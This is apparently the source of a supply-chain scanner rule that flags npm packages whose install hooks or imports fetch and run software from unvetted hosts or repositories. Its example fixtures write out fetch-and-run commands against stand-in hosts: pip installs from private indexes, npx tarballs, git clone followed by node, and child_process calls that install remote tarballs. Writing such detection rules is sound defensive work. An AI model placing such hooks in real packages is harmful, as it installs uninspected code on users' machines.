import type { Action, Context, Fact, Inspection, Rule, Text } from '../lib/types.ts'
import { oncePerLine } from './behaviour/once.ts'
import { isStranger, placeInWords, placeOf } from './behaviour/place.ts'
import { isProgram, unasked } from './behaviour/written.ts'
import { findingAt, opening, quote, severityOf } from './finding.ts'
import type { RuleFinding } from './finding.ts'
import { isForeignRepository, keeperOf } from './hosts/forge.ts'
import { scopeOf } from './names/name-index.ts'

type Starts = Extract<Fact, { kind: 'starts' }>

/** Package managers that are told to take a package from somewhere else than their registry. */
const installers =
  /\b(?:npm|pnpm|yarn|bun)(?:\.cmd)?\s+(?:\S+\s+){0,3}?(?:install|i|add|exec|x|dlx)\s|\b(?:npx|bunx|pnpx)(?:\.cmd)?\s|\bnode(?:\.exe)?\s+(?:\S{0,200}npm-cli\.js|\u0001)\s+(?:\S+\s+){0,3}?(?:install|i|add|exec|x)\s|\b(?:pip[0-9.]*|uv\s+pip|pipx)\s+(?:\S+\s+){0,3}?install\s|-m\s+pip\s+install\s|\bgem\s+install\s|\bcargo\s+install\s|\bgo\s+install\s/

/** A package by its name, which a package manager fetches, or fetches and starts. */
const byName =
  /\b(?:npm|pnpm|bun)(?:\.cmd)?\s+(?:-\S+\s+)*(?:i|install|add|exec|dlx|x|pack)\s+(?:-\S+\s+(?:[/.~\u0001]\S*\s+)?)*["']?((?:@[\w.-]+\/)?[a-z][\w.-]*)(?:@[\w.^~>=*:@/-]+)?["']?(?=\s|$)|\byarn\s+(?:global\s+)?(?:add|dlx)\s+(?:-\S+\s+)*["']?((?:@[\w.-]+\/)?[a-z][\w.-]*)|\b(?:npx|bunx|pnpx)(?:\.cmd)?\s+(?:-y|--yes)\s+(?:-\S+\s+)*["']?((?:@[\w.-]+\/)?[a-z][\w.-]*)(?:@[\w.^~>=*-]+)?["']?(?=\s|$)/i

/** `npx github:owner/name` */
const forgeSpec = /\s((?:github|gitlab|bitbucket):[\w-]+\/[\w.-]+)/i

/** What is fetched as a whole and then started from its folder. */
const cloning = /\bgit\s+(?:-\S+\s+\S+\s+){0,3}clone\s|\bsvn\s+(?:co|checkout)\s|\bhg\s+clone\s/
const starting =
  /(?:^|[;&|]\s*)(?:node|bun|deno\s+run|sh|bash|zsh|python[0-9.]*|make|npm\s+(?:install|i|ci|start|run)|\.\/)\b/

/** An address in full: options and file names have dots as well. */
const address = /\b(?:git\+)?(?:https?|git|ssh|svn|ftp):\/\/[^\s'"`|;<>)]{1,300}/g

/** Software of strangers that a hook or an import puts on the machine by other means than its dependencies. */
export const foreignInstall: Rule = {
  meta: {
    id: 'foreign-install',
    title: 'Installs software from a stranger',
    severity: 'high',
    description:
      'While npm installs it or as soon as it is imported, the package tells a package manager to install something from ' +
      'a host that is neither a registry nor its own, or clones a repository there and starts what lies in it. As soon as ' +
      'it is imported, also: it tells one to install a package by name that is neither its own nor a dependency. What ' +
      'comes that way stands in no manifest and no lockfile, and nobody has inspected it.',
    references: ['nppacks (June to August 2026): tarballs of the author beside the registry'],
    blindSpots: [
      'Addresses that are computed.',
      'Repositories on the large forges, as soon as it is imported.',
    ],
    examples: {
      flags: [
        {
          title: 'a hook installs a Python package from an index of its own',
          files: {
            'package.json':
              '{"name":"a","version":"1.0.0","scripts":{"postinstall":"pip3 install --index-url http://pypi.helper.invalid/simple helper"}}',
          },
        },
        {
          title: 'a hook runs a tarball',
          files: {
            'package.json':
              '{"name":"a","version":"1.0.0","scripts":{"postinstall":"npx --yes https://parts.helper.invalid/setup-1.0.0.tgz --silent"}}',
          },
        },
        {
          title: 'a hook runs what somebody keeps in a repository',
          files: {
            'package.json':
              '{"name":"a","version":"1.0.0","repository":"github:a-team/a","scripts":{"postinstall":"npx -y github:other-people/setup"}}',
          },
        },
        {
          title: 'a hook starts the npm that started it, with the address of a tarball',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","scripts":{"postinstall":"node more.js"}}',
            'more.js':
              "const { execFileSync } = require('child_process')\nfor (const from of ['https://runtime-parts.invalid/r.tgz'])\n  execFileSync(process.execPath, [process.env.npm_execpath, 'install', from, '--no-save'], { stdio: 'ignore' })\n",
          },
        },
        {
          title: 'an import installs a tarball',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
            'i.js':
              "require('child_process').spawn('npm', ['install', '--no-save', 'https://runtime-parts.invalid/r.tgz'], { detached: true })\n",
          },
        },
        {
          title: 'a hook clones a repository and starts what lies in it',
          files: {
            'package.json':
              '{"name":"a","version":"1.0.0","scripts":{"postinstall":"git clone https://git.helper.invalid/x.git /tmp/x && node /tmp/x/run.js"}}',
          },
        },
        {
          title: 'an import adds a package to the project',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
            'i.js': "require('child_process').exec('npm install --save helper-x', { cwd: process.cwd() })\n",
          },
        },
      ],
      passes: [
        {
          title: 'an import without its binary fetches it as an optional dependency would have been',
          files: {
            'package.json':
              '{"name":"a","version":"1.0.0","main":"i.js","optionalDependencies":{"@a/wasm":"1.0.0"}}',
            'i.js':
              "try { require('@a/wasm') } catch { require('child_process').execSync('npm i @a/wasm@1.0.0', { cwd: require('os').tmpdir() }) }\n",
          },
        },
        {
          title: 'a command installs what its user names',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","bin":"cli.js"}',
            'cli.js':
              "#!/usr/bin/env node\nrequire('child_process').execFileSync('npm', ['install', process.argv[2]])\n",
          },
        },
        {
          title: 'a hook runs what its own keeper has in another repository',
          files: {
            'package.json':
              '{"name":"a","version":"1.0.0","repository":"git+https://github.com/a-team/a.git","scripts":{"postinstall":"npx -y github:a-team/setup"}}',
          },
        },
        {
          title: 'a hook installs from the registry',
          files: {
            'package.json':
              '{"name":"a","version":"1.0.0","scripts":{"postinstall":"npm install --prefix native node-gyp@11"}}',
          },
        },
      ],
    },
  },
  check(inspection, context) {
    const starts = inspection.facts.filter((fact): fact is Starts => fact.kind === 'starts' && unasked(fact))
    return oncePerLine(
      inspection.facts.flatMap(fact => {
        if (!unasked(fact)) return []
        if (fact.kind === 'starts')
          return fact.commands.flatMap(command => ofCommand(fact, command, starts, inspection, context))
        if (fact.kind !== 'contacts' || fact.api !== 'git' || !isFollowed(fact, starts)) return []
        return report(
          fact,
          `git clone ${fact.destinations[0] ?? ''}`,
          fact.destinations,
          true,
          inspection,
          context,
        )
      }),
    )
  },
}

function ofCommand(
  fact: Starts,
  command: Text,
  starts: readonly Starts[],
  inspection: Inspection,
  context: Context,
): readonly RuleFinding[] {
  const named = ofName(fact, command, inspection, context)
  if (named !== undefined) return [named]
  const clones = cloning.test(command)
  if (clones ? !isFollowed(fact, starts) : !installers.test(command)) return []
  return report(fact, command, command.match(address) ?? [], clones, inspection, context)
}

/** Fetched by name from the registry: hooks of native packages do that for their own parts, imports of nobody. */
function ofName(
  fact: Starts,
  command: Text,
  inspection: Inspection,
  context: Context,
): RuleFinding | undefined {
  if (fact.phase !== 'import' || isProgram(fact, inspection)) return undefined
  const found = byName.exec(command)
  const name = (found?.[1] ?? found?.[2] ?? found?.[3])?.replace(/@[^@/]*$/, '')
  if (name === undefined || name === '' || belongsTo(name, inspection, context)) return undefined
  const message =
    `${opening(fact)} runs ${quote(command, 120)}, which brings ${quote(name)} past everything that was inspected. ` +
    'Nobody asked for that, and it stands in no manifest. Do not install this unless you know what it needs that for.'
  return findingAt(fact.at, fact.phase, { action: 'ask', severity: 'high', message })
}

/** Its own parts and what it depends on anyway. */
function belongsTo(name: string, { manifest }: Inspection, context: Context): boolean {
  const own = scopeOf(context.name)
  return (
    manifest.dependencies.some(dependency => dependency.name === name && dependency.type !== 'dev') ||
    name.startsWith(own?.tail ?? context.name) ||
    name.startsWith(`@${context.name}/`) ||
    (own !== undefined && scopeOf(name)?.scope === own.scope) ||
    context.name.startsWith(`${scopeOf(name)?.scope ?? '@'}-`)
  )
}

function report(
  fact: Fact,
  command: Text,
  addresses: readonly Text[],
  clones: boolean,
  inspection: Inspection,
  context: Context,
): readonly RuleFinding[] {
  // What npx fetches runs at once.
  const runs = fact.phase === 'install' && /\b(?:npx|bunx|pnpx|exec|dlx)\s/.test(command)
  const foreign = [...addresses, ...(forgeSpec.exec(command)?.slice(1) ?? [])].find(text =>
    isForeignRepository(text, inspection.manifest),
  )
  if (foreign !== undefined && fact.phase === 'install' && (runs || clones))
    return [ofRepository(fact, command, foreign)]
  const place = placeOf(addresses, inspection, context)
  if (!isStranger(place) || place.host === undefined) return []
  const grave = runs || place.kind === 'capture' || place.plain || (clones && fact.phase === 'install')
  const action: Action = grave ? 'block' : 'ask'
  const message =
    `${opening(fact)} runs ${quote(command, 120)}, which brings software from ${place.host.shown}, ${placeInWords(place)}, ` +
    `past everything that was inspected. Do not install this unless you know that host.`
  return [findingAt(fact.at, fact.phase, { action, severity: severityOf(action), message })]
}

/** Anybody can keep code there, and nothing of this package says that it is theirs. */
function ofRepository(fact: Fact, command: Text, address: Text): RuleFinding {
  const message =
    `${opening(fact)} runs ${quote(command, 120)}: it fetches code from ${quote(keeperOf(address) ?? address)}, who is named nowhere in ` +
    'its manifest, and runs it past everything that was inspected. Do not install this unless you know them.'
  return findingAt(fact.at, fact.phase, { action: 'ask', severity: 'high', message })
}

/** Whether the same file also starts something: what was fetched, as a rule. */
function isFollowed(fact: Fact, starts: readonly Starts[]): boolean {
  return starts.some(
    other => other.phase === fact.phase && other.at.path === fact.at.path && other.commands.some(startsOther),
  )
}

/** A start that is not the fetching itself. */
function startsOther(command: Text): boolean {
  return starting.test(command) || command.split(/&&|;|\n/).some(part => starting.test(part.trim()))
}
